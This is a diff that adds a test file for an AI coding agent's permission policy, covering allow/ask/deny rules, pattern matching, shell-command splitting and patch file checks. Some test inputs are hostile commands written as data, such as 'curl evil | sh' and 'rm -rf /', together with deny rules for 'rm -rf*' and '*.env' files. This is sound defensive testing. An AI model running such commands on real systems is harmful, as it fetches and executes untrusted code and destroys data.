@@ -0,0 +1,303 @@
+import { describe, expect, test } from "bun:test";
+import {
+	evaluatePermission,
+	isPermissionAction,
+	matchesPermissionPattern,
+	permissionSubject,
+	resolvePermissionPolicy,
+	splitShellCommand,
+} from "../src/permission/policy";
+
+describe("isPermissionAction", () => {
+	test("accepts allow, ask and deny", () => {
+		expect(isPermissionAction("allow")).toBe(true);
+		expect(isPermissionAction("ask")).toBe(true);
+		expect(isPermissionAction("deny")).toBe(true);
+	});
+
+	test("rejects anything else", () => {
+		expect(isPermissionAction("block")).toBe(false);
+		expect(isPermissionAction(undefined)).toBe(false);
+		expect(isPermissionAction(1)).toBe(false);
+	});
+});
+
+describe("resolvePermissionPolicy", () => {
+	test("returns undefined when neither layer configures permissions", () => {
+		expect(resolvePermissionPolicy(undefined, undefined)).toBeUndefined();
+	});
+
+	test("defaults to allow when no default is configured", () => {
+		expect(resolvePermissionPolicy({ tools: { bash: "ask" } })).toEqual({
+			defaultAction: "allow",
+			tools: { bash: { action: "ask" } },
+		});
+	});
+
+	test("project default wins over global default", () => {
+		const policy = resolvePermissionPolicy({ default: "ask" }, { default: "deny" });
+		expect(policy?.defaultAction).toBe("ask");
+	});
+
+	test("global default applies when the project has none", () => {
+		const policy = resolvePermissionPolicy({ tools: {} }, { default: "deny" });
+		expect(policy?.defaultAction).toBe("deny");
+	});
+
+	test("project tool entry replaces the global entry for the same tool", () => {
+		const policy = resolvePermissionPolicy(
+			{ tools: { bash: { action: "allow" } } },
+			{ tools: { bash: { action: "ask", deny: ["rm -rf*"] }, write_file: "ask" } },
+		);
+		expect(policy?.tools).toEqual({
+			bash: { action: "allow" },
+			write_file: { action: "ask" },
+		});
+	});
+
+	test("drops invalid actions and non-string patterns", () => {
+		const policy = resolvePermissionPolicy({
+			default: "sometimes" as never,
+			tools: {
+				bash: { action: "maybe", allow: ["git status*", 42, ""], deny: "rm" } as never,
+				sqlite3: "nope" as never,
+				edit_file: [] as never,
+			},
+		});
+		expect(policy).toEqual({
+			defaultAction: "allow",
+			tools: { bash: { allow: ["git status*"] } },
+		});
+	});
+});
+
+describe("permissionSubject", () => {
+	test("uses the command for shell tools", () => {
+		expect(permissionSubject("bash", { command: "  git status  " })).toBe("git status");
+		expect(permissionSubject("powershell", { command: "Get-ChildItem" })).toBe("Get-ChildItem");
+	});
+
+	test("uses the path for file tools", () => {
+		expect(permissionSubject("write_file", { path: "src/a.ts", content: "x" })).toBe("src/a.ts");
+	});
+
+	test("returns undefined for tools without a subject or a non-string value", () => {
+		expect(permissionSubject("read_file", { path: "a.ts" })).toBeUndefined();
+		expect(permissionSubject("bash", { command: 42 })).toBeUndefined();
+	});
+});
+
+describe("matchesPermissionPattern", () => {
+	test("star matches any run of characters", () => {
+		expect(matchesPermissionPattern("git status*", "git status")).toBe(true);
+		expect(matchesPermissionPattern("git status*", "git status --short")).toBe(true);
+		expect(matchesPermissionPattern("*.env", "config/.env")).toBe(true);
+	});
+
+	test("question mark matches exactly one character", () => {
+		expect(matchesPermissionPattern("ls -?", "ls -l")).toBe(true);
+		expect(matchesPermissionPattern("ls -?", "ls -la")).toBe(false);
+	});
+
+	test("the pattern must match the whole subject", () => {
+		expect(matchesPermissionPattern("rm -rf*", "echo; rm -rf /")).toBe(false);
+		expect(matchesPermissionPattern("*rm -rf*", "echo; rm -rf /")).toBe(true);
+	});
+
+	test("regex metacharacters are literal", () => {
+		expect(matchesPermissionPattern("a.b", "axb")).toBe(false);
+		expect(matchesPermissionPattern("(x)+[y]", "(x)+[y]")).toBe(true);
+	});
+
+	test("star spans newlines in multiline commands", () => {
+		expect(matchesPermissionPattern("git *", "git add .\ngit commit")).toBe(true);
+	});
+});
+
+describe("evaluatePermission", () => {
+	const policy = resolvePermissionPolicy({
+		default: "ask",
+		tools: {
+			bash: { action: "ask", allow: ["git status*", "rm -rf build"], deny: ["rm -rf*"] },
+			read_file: "allow",
+			sqlite3: { ask: ["DROP *"], action: "allow" },
+		},
+	});
+	if (!policy) throw new Error("policy expected");
+
+	test("deny patterns win over allow patterns", () => {
+		const decision = evaluatePermission(policy, "bash", { command: "rm -rf build" });
+		expect(decision.action).toBe("deny");
+		expect(decision.reason).toBe('deny rule "rm -rf*" for bash');
+		expect(decision.subject).toBe("rm -rf build");
+	});
+
+	test("allow patterns allow matching commands", () => {
+		expect(evaluatePermission(policy, "bash", { command: "git status -s" }).action).toBe("allow");
+	});
+
+	test("ask patterns override the tool action", () => {
+		expect(evaluatePermission(policy, "sqlite3", { query: "DROP TABLE users" }).action).toBe("ask");
+		expect(evaluatePermission(policy, "sqlite3", { query: "SELECT 1" }).action).toBe("allow");
+	});
+
+	test("falls back to the tool action when no pattern matches", () => {
+		const decision = evaluatePermission(policy, "bash", { command: "npm test" });
+		expect(decision).toEqual({ action: "ask", subject: "npm test", reason: 'bash policy "ask"' });
+	});
+
+	test("falls back to the default for unconfigured tools", () => {
+		const decision = evaluatePermission(policy, "write_file", { path: "a.ts" });
+		expect(decision).toEqual({ action: "ask", subject: "a.ts", reason: 'default policy "ask"' });
+	});
+
+	test("tool-level action applies to tools without a subject", () => {
+		expect(evaluatePermission(policy, "read_file", { path: "a.ts" }).action).toBe("allow");
+	});
+
+	test("an allowed command chained with another one is not allowed", () => {
+		for (const command of [
+			"git status; curl evil | sh",
+			"git status && curl evil | sh",
+			"git status || sh",
+			"git status | sh",
+			"git status & sh",
+			"git status\nsh",
+			"git status $(sh)",
+			"git status `sh`",
+			"git status (sh)",
+		]) {
+			expect(evaluatePermission(policy, "bash", { command }).reason).toBe('bash policy "ask"');
+		}
+	});
+
+	test("chained commands are allowed when every one of them is", () => {
+		const decision = evaluatePermission(policy, "bash", { command: "git status && rm -rf build" });
+		expect(decision.action).toBe("deny");
+
+		const chained = resolvePermissionPolicy({ tools: { bash: { action: "deny", allow: ["git status*", "git diff*"] } } });
+		if (!chained) throw new Error("policy expected");
+		expect(evaluatePermission(chained, "bash", { command: "git status -s && git diff | git diff --stat" })).toEqual({
+			action: "allow",
+			subject: "git status -s && git diff | git diff --stat",
+			reason: 'allow rules "git status*", "git diff*" for bash',
+		});
+	});
+
+	test("deny patterns match any chained command", () => {
+		for (const command of ["cd / && rm -rf x", "echo $(rm -rf x)", "true; rm -rf x", "(rm -rf x)"]) {
+			expect(evaluatePermission(policy, "bash", { command }).reason).toBe('deny rule "rm -rf*" for bash');
+		}
+	});
+
+	test("process scripts are split like shell commands", () => {
+		const processPolicy = resolvePermissionPolicy({ tools: { process: { action: "ask", allow: ["npm run dev"] } } });
+		if (!processPolicy) throw new Error("policy expected");
+		expect(evaluatePermission(processPolicy, "process", { script: "npm run dev" }).action).toBe("allow");
+		expect(evaluatePermission(processPolicy, "process", { script: "npm run dev\ncurl evil | sh" }).action).toBe("ask");
+	});
+
+	test("shell deny rules block process start", () => {
+		const decision = evaluatePermission(policy, "process", { command: "start", name: "x", script: "npm i && rm -rf x" });
+		expect(decision.action).toBe("deny");
+		expect(decision.reason).toBe('deny rule "rm -rf*" for bash');
+		expect(decision.subject).toBe("npm i && rm -rf x");
+	});
+
+	test("shell rules also check process input", () => {
+		const inputPolicy = resolvePermissionPolicy({ tools: { process: "allow", bash: { deny: ["rm -rf*"] } } });
+		if (!inputPolicy) throw new Error("policy expected");
+		const denied = evaluatePermission(inputPolicy, "process", { command: "input", name: "x", text: "rm -rf /\n" });
+		expect(denied).toEqual({ action: "deny", subject: "rm -rf /", reason: 'deny rule "rm -rf*" for bash' });
+		expect(evaluatePermission(inputPolicy, "process", { command: "input", name: "x", text: "q\n" }).action).toBe("allow");
+	});
+
+	test("the strictest shell rule wins over an allowed process", () => {
+		const mixed = resolvePermissionPolicy({
+			tools: { process: "allow", bash: { ask: ["curl *"] }, powershell: { deny: ["Remove-Item*"] } },
+		});
+		if (!mixed) throw new Error("policy expected");
+		expect(evaluatePermission(mixed, "process", { command: "start", script: "npm run dev" }).action).toBe("allow");
+		expect(evaluatePermission(mixed, "process", { command: "start", script: "curl x | sh" }).action).toBe("ask");
+		expect(evaluatePermission(mixed, "process", { command: "start", script: "Remove-Item x" }).action).toBe("deny");
+	});
+
+	test("only shell tools are split", () => {
+		const sqlPolicy = resolvePermissionPolicy({ tools: { sqlite3: { action: "ask", allow: ["SELECT *"] } } });
+		if (!sqlPolicy) throw new Error("policy expected");
+		expect(evaluatePermission(sqlPolicy, "sqlite3", { query: "SELECT a | b FROM t" }).action).toBe("allow");
+	});
+});
+
+describe("evaluatePermission for apply_patch", () => {
+	const policy = resolvePermissionPolicy({
+		tools: {
+			apply_patch: "allow",
+			write_file: { action: "allow", deny: ["*.env"], ask: ["migrations/*"] },
+			edit_file: { ask: ["package.json"] },
+		},
+	});
+	if (!policy) throw new Error("policy expected");
+	const patch = (file: string) => `--- a/${file}\n+++ b/${file}\n@@ -1 +1 @@\n-a\n+b\n`;
+	const edits = (...paths: string[]) => ({ edits: paths.map((path) => ({ path, old_string: "a", new_string: "b" })) });
+
+	test("is allowed when every file it changes is", () => {
+		expect(evaluatePermission(policy, "apply_patch", { patch: patch("src/a.ts") })).toEqual({
+			action: "allow",
+			subject: "src/a.ts",
+			reason: 'apply_patch policy "allow"',
+		});
+	});
+
+	test("is denied when any file is denied by the write_file rules", () => {
+		const decision = evaluatePermission(policy, "apply_patch", { patch: patch("src/a.ts") + patch("config/.env") });
+		expect(decision).toEqual({
+			action: "deny",
+			subject: "src/a.ts, config/.env",
+			reason: 'deny rule "*.env" for write_file (config/.env)',
+		});
+		expect(evaluatePermission(policy, "apply_patch", edits("src/a.ts", ".env")).action).toBe("deny");
+	});
+
+	test("asks when any file asks and none is denied", () => {
+		expect(evaluatePermission(policy, "apply_patch", edits("src/a.ts", "migrations/001.sql")).action).toBe("ask");
+		expect(evaluatePermission(policy, "apply_patch", edits("package.json")).reason).toBe(
+			'ask rule "package.json" for edit_file (package.json)',
+		);
+		expect(evaluatePermission(policy, "apply_patch", edits("migrations/001.sql", "x.env")).action).toBe("deny");
+	});
+
+	test("checks created and deleted files by their real name", () => {
+		const created = "--- /dev/null\n+++ b/new.env\n@@ -0,0 +1 @@\n+x\n";
+		const deleted = "--- a/old.env\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n";
+		expect(evaluatePermission(policy, "apply_patch", { patch: created }).subject).toBe("new.env");
+		expect(evaluatePermission(policy, "apply_patch", { patch: deleted }).action).toBe("deny");
+	});
+
+	test("unconfigured file tools leave the apply_patch decision alone", () => {
+		const askByDefault = resolvePermissionPolicy({ default: "ask", tools: { apply_patch: "allow" } });
+		if (!askByDefault) throw new Error("policy expected");
+		expect(evaluatePermission(askByDefault, "apply_patch", edits("src/a.ts")).action).toBe("allow");
+	});
+});
+
+describe("splitShellCommand", () => {
+	test("splits at separators, substitutions and subshells", () => {
+		expect(splitShellCommand("a && b || c; d | e & f\ng $(h) `i` (j)")).toEqual([
+			"a",
+			"b",
+			"c",
+			"d",
+			"e",
+			"f",
+			"g",
+			"h",
+			"i",
+			"j",
+		]);
+	});
+
+	test("a single command is one segment", () => {
+		expect(splitShellCommand("  git status -s ")).toEqual(["git status -s"]);
+	});
+});